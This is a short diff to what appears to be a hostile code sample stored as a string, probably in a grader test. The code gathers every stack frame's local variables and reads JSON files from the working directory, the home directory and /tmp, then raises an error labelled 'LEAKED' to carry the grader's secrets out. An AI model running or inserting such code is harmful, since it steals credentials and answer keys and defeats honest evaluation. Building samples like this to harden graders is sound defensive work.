@@ -156,9 +156,9 @@ def share_of(data, column, value):
     # Try to carry the grader's secrets out in an error message: every frame on the stack (the harness's too)
     # and every file the kernel can see beside the cases it is called on.
     found = [repr(frame.frame.f_locals) for frame in inspect.stack()]
-    for place in [Path.cwd(), *Path.cwd().parents]:
+    for place in [Path.cwd(), Path.home(), Path("/tmp")]:
         try:
-            found += [path.read_text(errors="ignore") for path in place.rglob("*.json") if path.is_file()][:20]
+            found += [path.read_text(errors="ignore") for path in list(place.glob("*/*.json"))[:20] if path.is_file()]
         except OSError:
             pass
     raise AssertionError("LEAKED " + " ".join(found))'''
